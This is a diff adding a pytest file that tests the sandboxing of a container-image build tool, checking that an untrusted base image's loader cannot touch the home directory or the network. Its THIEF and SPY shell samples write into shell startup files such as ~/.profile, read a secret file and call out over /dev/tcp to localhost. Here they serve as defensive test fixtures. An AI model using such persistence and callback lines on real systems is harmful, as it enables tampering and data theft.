@@ -1,0 +1,174 @@
+"""Programs that a base brought see neither the home directory nor the network, or do not run at all."""
+
+from __future__ import annotations
+
+import json
+import os
+import shlex
+import shutil
+import socket
+from collections.abc import Iterator
+from contextlib import contextmanager
+from pathlib import Path
+
+import pytest
+
+from images.foreign import sandbox
+from images.foreign.sandbox import Given
+from tests.golden import base, wheels
+from tests.golden.building import PIP, PROGRAMS
+from tests.golden.command import Said, directory, run
+from tests.support import checkout
+from tests.support.stand_in import Image, layout, write
+
+needs_bubblewrap = pytest.mark.skipif(
+    bool(sandbox.find(os.environ).refusal), reason=f"no sandbox: {sandbox.find(os.environ).refusal}"
+)
+PAIR = "--torch 2.13.0 --transformers 5.23.0 --examples none --tasks text-generation"
+BUILD = f"--base oci:base --python 3.11 --no-load {PAIR}"
+# What a stranger's loader would do.
+THIEF = """\
+#!/bin/sh
+echo stolen >{home}/.profile
+echo stolen >~/.bash_login
+(echo GET / >/dev/tcp/127.0.0.1/{port}) 2>/dev/null
+exit 0
+"""
+
+
+@contextmanager
+def machine(image: Image, *programs: str) -> Iterator[Path]:
+    """Make a directory with a base, the wheels of the newest pair, and a PATH of a few programs."""
+    with directory({name: PROGRAMS[name] for name in ("programs/mmdebstrap", "programs/apt-get")}) as place:
+        write(place / "base", layout({"1": image}))
+        (place / "linked").mkdir()
+        wheels.of_the_newest(place / "linked")
+        (place / "home").mkdir()
+        for name in programs:
+            (place / "programs" / name).symlink_to(str(shutil.which(name)))
+        yield place
+
+
+def build(place: Path, typed: str) -> Said:
+    """Run build.py where nothing but the programs of the machine are in PATH."""
+    said = run(shlex.split(typed), {**PIP, "PATH": str(place / "programs"), "HOME": str(place / "home")})
+    print(f"+ build.py {typed}\n{said.out}{said.err}[exit code {said.code}]")
+    return said
+
+
+def thief(place: Path, port: int = 9) -> Image:
+    """Return a base whose loader writes into the home directory and calls home."""
+    return Image([{**base.SYSTEM, base.LOADER: THIEF.format(home=place, port=port).encode()}], "none")
+
+
+@pytest.fixture
+def home(tmp_path: Path) -> Path:
+    (tmp_path / "home").mkdir()
+    return tmp_path / "home"
+
+
+@needs_bubblewrap
+def test_a_loader_that_steals_finds_nothing(home: Path) -> None:
+    with machine(thief(home), "bwrap") as place:
+        said = build(place, f"{BUILD} --bytecode")
+
+        assert said.code == 1
+        assert "error: cannot compile" in said.err and "\n  try: " in said.err and "--no-bytecode" in said.err
+        assert [*home.iterdir(), *(place / "home").iterdir()] == []
+
+
+@needs_bubblewrap
+def test_it_does_not_run_for_the_import_check_either(home: Path) -> None:
+    with machine(thief(home), "bwrap") as place:
+        said = build(place, f"{BUILD} --no-bytecode")
+
+        assert (said.code, "modules of the image cannot be imported" in said.err) == (1, True)
+        assert [*home.iterdir(), *(place / "home").iterdir()] == []
+
+
+def test_without_a_sandbox_nothing_runs(home: Path) -> None:
+    with machine(thief(home)) as place:
+        said = build(place, f"{BUILD} --bytecode")
+
+        assert said.code == 1
+        assert "compiles in a sandbox only, and there is none here: oci:base (no bwrap in PATH)" in said.err
+        assert "\n  try: sudo apt-get install bubblewrap" in said.err and "--no-bytecode" in said.err
+        assert not (place / "cache/blobs").exists(), "it is said before anything is downloaded"
+        assert [*home.iterdir(), *(place / "home").iterdir()] == []
+
+
+def test_without_a_sandbox_a_build_without_bytecode_ends_well(home: Path) -> None:
+    with machine(thief(home)) as place:
+        said = build(place, f"{BUILD} --no-bytecode")
+
+        assert said.code == 0
+        assert "note: the packages were not imported once: no engine" in said.err
+        assert [*home.iterdir(), *(place / "home").iterdir()] == []
+
+
+def test_verify_without_a_sandbox_compares_the_rest() -> None:
+    """The image was made where the stand-in for bubblewrap is; then that is gone."""
+    with machine(base.COMPILING) as place:
+        bwrap = place / "programs/bwrap"
+        bwrap.write_bytes(PROGRAMS["programs/bwrap"])
+        bwrap.chmod(0o755)
+        assert build(place, f"{BUILD} --bytecode --output layout/").code == 0
+        assert build(place, "verify layout").code == 0
+        bwrap.unlink()
+
+        said = build(place, "verify --json layout")
+
+        told = json.loads(said.out)
+        assert (said.code, told["same"], told["difference"]) == (1, False, None)
+        assert [each.partition(" (")[0] for each in told["not_compared"]] == ["bytecode"]
+        assert "not everything was compared: bytecode" in said.err and "no bwrap in PATH" in said.err
+        assert "\n  try: sudo apt-get install bubblewrap" in said.err
+
+
+def test_packages_that_debian_did_not_sign_are_not_installed_to_verify(module_path: Path) -> None:
+    """They come out of a bundle, and apt cannot be asked: the base is read from the image, the rest is compared."""
+    sources = checkout.make(module_path)
+    sources.lock(*checkout.REQUEST)
+    assert sources.run("bundle", "--lock", "pylock.layout.toml", "--output", "bundle").code == 0
+    assert sources.run("bundle", "--offline", "bundle", "--output", "again", cache="another").code == 0
+    for name in ("mmdebstrap", "apt-get"):
+        (sources.place / "programs" / name).write_text("#!/bin/sh\nexit 1\n")
+
+    done = sources.run("verify", "--json", "layout", cache="another")
+
+    told = json.loads(done.out)
+    assert (done.code, told["same"], told["difference"]) == (1, False, None)
+    assert [each.partition(" (")[0] for each in told["not_compared"]] == ["the layer debian base"]
+    assert sources.run("verify", "layout").code == 0, "the cache that made it knows that they were signed"
+
+
+SPY = """id -u; id -g; echo "$HOME"; ls -A "$HOME"; ls -A /
+grep CapEff /proc/self/status || echo no proc
+echo x >/dev/null && echo written
+cat "$1" || echo unseen
+echo stolen >"$2" || echo refused
+echo stolen >"$3"
+(echo GET / >/dev/tcp/127.0.0.1/"$4") || echo offline
+"""
+
+
+@needs_bubblewrap
+def test_a_program_sees_what_it_is_given(home: Path) -> None:
+    """A real shell, a file in the home directory, and somebody who listens."""
+    given, out = home / "given", home / "out"
+    for path in (given, out, home / "secret"):
+        path.write_text("as it was")
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        arguments = [str(home / "secret"), str(given), str(out), str(server.getsockname()[1])]
+        reads = [path for path in map(Path, ("/usr", "/bin", "/lib", "/lib64")) if path.exists()]
+        done = sandbox.find(os.environ).run(
+            ["/bin/bash", "-c", SPY, "spy", *arguments], Given({}, [*reads, given], [out]), ""
+        )
+        server.setblocking(False)
+        with pytest.raises(BlockingIOError):
+            server.accept()
+
+    top = sorted({"dev", "home", "tmp", *(path.name for path in reads), home.parts[1]})
+    lines = ["65534", "65534", sandbox.HOME, *top, "no proc", "written", "unseen", "refused", "offline"]
+    assert done.out.splitlines() == lines
+    assert [path.read_text() for path in (given, home / "secret", out)] == ["as it was", "as it was", "stolen\n"]
